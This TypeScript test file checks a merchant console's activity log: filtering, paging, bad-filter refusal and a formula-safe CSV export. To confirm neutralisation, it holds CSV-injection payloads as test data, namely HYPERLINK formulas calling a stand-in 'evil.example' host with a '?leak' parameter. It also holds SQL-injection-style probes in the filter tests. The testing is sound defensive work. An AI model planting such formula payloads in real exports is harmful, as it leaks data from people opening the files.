/**
 * The console's activity page: filtered by member and by action, paged with the filters kept, a bad
 * filter refused in words; its CSV export with the same filters, formula-safe cells, RFC 4180
 * quoting and a byte order mark.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { cell } from '../../src/console/csv.js'
import { startTestApp, type TestApp } from '../helpers/app.js'
import { signedIn } from '../helpers/console.js'
import { memberWithRole } from '../helpers/members.js'

const actionsOf = (html: string) => [...html.matchAll(/<tr data-action="(\w+)" data-member="(\w*)"/g)].map((m) => ({ action: m[1], member: m[2] }))
const olderLink = (html: string) => /href="([^"]+)" rel="next"/.exec(html)?.[1].replaceAll('&amp;', '&') ?? null

async function memberIdOf(ta: TestApp, email: string) {
  return (await ta.database.pool.query('select id from console_members where email = $1', [email])).rows[0].id as string
}

/** `n` entries of `memberId` straight into the log (what many console actions would leave), oldest first. */
async function seed(ta: TestApp, merchantId: string, memberId: string, email: string, n: number, action = 'key_created') {
  await ta.database.pool.query(`insert into console_activity (merchant_id, mode, actor, action, subject, member_id, created_at)
    select $1, 'test', $2, $3, 'key_' || lpad(g::text, 24, '0'), $4, now() from generate_series(1, $5) g`, [merchantId, email, action, memberId, n])
}

test('the activity page filters by member and by action, pages with the filters kept, and refuses a filter it does not know', async (t) => {
  const ta = await startTestApp(t)
  const { m, browser: owner } = await signedIn(ta)
  const dev = await memberWithRole(ta, owner, 'developer', 'dev@example.com')
  assert.equal((await dev.browser.submit('/console/test/keys', '/console/test/keys')).status, 201)
  assert.equal((await owner.submit('/console/test/keys', '/console/test/keys')).status, 201)
  const devId = await memberIdOf(ta, 'dev@example.com')
  const ownerId = await memberIdOf(ta, m.email)

  const all = actionsOf((await owner.get('/console/test/activity')).html)
  assert.ok(all.some((r) => r.member === devId) && all.some((r) => r.member === ownerId))
  const page = await owner.get(`/console/test/activity?member=${devId}`)
  assert.equal(page.status, 200)
  const devs = actionsOf(page.html)
  assert.deepEqual(devs.map((r) => r.action), ['key_created', 'sign_in', 'member_joined'])
  assert.ok(devs.every((r) => r.member === devId))
  assert.match(page.html, new RegExp(`<option value="${devId}" selected="">dev@example.com</option>`))
  assert.deepEqual(actionsOf((await owner.get('/console/test/activity?action=key_created')).html).map((r) => r.member), [ownerId, devId])
  assert.deepEqual(actionsOf((await owner.get(`/console/test/activity?action=key_created&member=${ownerId}`)).html).map((r) => r.member), [ownerId])
  assert.match((await owner.get(`/console/test/activity?action=key_revoked`)).html, /Nothing matches these filters\./)

  // Paging keeps the filter: 60 more of the developer's, 50 a page.
  await seed(ta, m.id, devId, 'dev@example.com', 60)
  const first = await owner.get(`/console/test/activity?member=${devId}`)
  const firstRows = actionsOf(first.html)
  assert.equal(firstRows.length, 50)
  const older = olderLink(first.html)!
  assert.match(older, new RegExp(`member=${devId}.*before=\\d+`))
  const second = actionsOf((await owner.get(older)).html)
  assert.equal(firstRows.length + second.length, 63)
  assert.ok([...firstRows, ...second].every((r) => r.member === devId))
  assert.equal(olderLink((await owner.get(older)).html), null)

  for (const bad of ['action=drop_table', 'member=x%27--', `member=${devId}&member=${ownerId}`]) {
    const res = await owner.get(`/console/test/activity?${bad}`)
    assert.equal(res.status, 400, bad)
    assert.match(res.html, /role="alert"/)
  }
  const zh = await owner.get('/console/test/activity?action=drop_table&lang=zh-CN')
  assert.match(zh.html, /日志中没有该成员或操作/)
  // Another merchant's member filters to nothing here.
  const other = await signedIn(ta, { name: 'Other' })
  assert.deepEqual(actionsOf((await other.browser.get(`/console/test/activity?member=${devId}`)).html), [])
})

test('a text cell a spreadsheet would run as a formula is written as text; RFC 4180 quoting otherwise', () => {
  for (const lead of ['=', '+', '-', '@', '\t', '\r']) assert.equal(cell(`${lead}1+1`).replace(/^"|"$/g, '').startsWith(`'${lead}`), true, JSON.stringify(lead))
  assert.equal(cell('=HYPERLINK("https://evil.example","x")'), `"'=HYPERLINK(""https://evil.example"",""x"")"`)
  assert.equal(cell('a,b'), '"a,b"')
  assert.equal(cell('line\nbreak'), '"line\nbreak"')
  assert.equal(cell('plain'), 'plain')
  assert.equal(cell(-5), '-5', 'a number is not a formula')
  assert.equal(cell(null), '')
})

test('Export CSV: the page\'s filters, every entry (past one read), formula-safe cells, a byte order mark, recorded itself', async (t) => {
  const ta = await startTestApp(t)
  const { m, browser: owner } = await signedIn(ta)
  const evil = '=hyperlink("https://evil.example/?leak","click")@shop.example' // as stored: emails are lower-cased
  const invited = await owner.submit('/console/test/members', '/console/test/members/invite', { email: evil, role: 'viewer' })
  assert.equal(invited.status, 200)
  const zhOwner = await owner.get('/console/test/activity?lang=zh-CN')
  assert.match(zhOwner.html, /href="\/console\/test\/activity\/export\.csv" download="">导出 CSV</)
  const ownerId = await memberIdOf(ta, m.email)
  await seed(ta, m.id, ownerId, m.email, 1200, 'sign_in')

  const res = await fetch(`${ta.baseUrl}/console/test/activity/export.csv?member=${ownerId}`, { headers: { cookie: `till_console=${owner.cookies.get('till_console')}`, 'accept-language': 'zh-CN' } })
  assert.equal(res.status, 200)
  assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8')
  assert.match(res.headers.get('content-disposition')!, /^attachment; filename="activity-test-\d{4}-\d\d-\d\d\.csv"$/)
  assert.equal(res.headers.get('content-length'), null, 'streamed, not buffered whole')
  const bytes = Buffer.from(await res.arrayBuffer())
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark')
  const records = parse(bytes, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[]
  assert.deepEqual(Object.keys(records[0]), ['created_at', 'mode', 'actor', 'member_id', 'action', 'what', 'subject', 'detail', 'ip', 'user_agent'])
  assert.ok(records.length > 1200, 'more than one batch of 500')
  assert.ok(records.every((r) => r.member_id === ownerId), 'the member filter')
  const invite = records.find((r) => r.action === 'member_invited')!
  assert.equal(invite.subject, `'${evil}`, 'the formula is text, behind an apostrophe')
  assert.equal(invite.what, '邀请了成员')
  assert.ok(!bytes.toString('utf8').includes(`,${evil}`) && !bytes.toString('utf8').includes(`"${evil}`), 'no cell starts with the formula')

  const filtered = await fetch(`${ta.baseUrl}/console/test/activity/export.csv?action=member_invited`, { headers: { cookie: `till_console=${owner.cookies.get('till_console')}` } })
  const only = parse(Buffer.from(await filtered.arrayBuffer()), { bom: true, columns: true }) as Record<string, string>[]
  assert.deepEqual(only.map((r) => r.action), ['member_invited'])
  const exported = await ta.database.pool.query(`select actor, member_id, detail from console_activity where action = 'activity_exported' order by id`)
  assert.deepEqual(exported.rows.map((r) => [r.actor, r.member_id, r.detail]), [[m.email, ownerId, { memberId: ownerId }], [m.email, ownerId, { action: 'member_invited' }]])
  assert.equal((await owner.get('/console/test/activity/export.csv?action=nope')).status, 400)
  const viewer = await memberWithRole(ta, owner, 'viewer')
  assert.equal((await viewer.browser.get('/console/test/activity/export.csv')).status, 403)
})
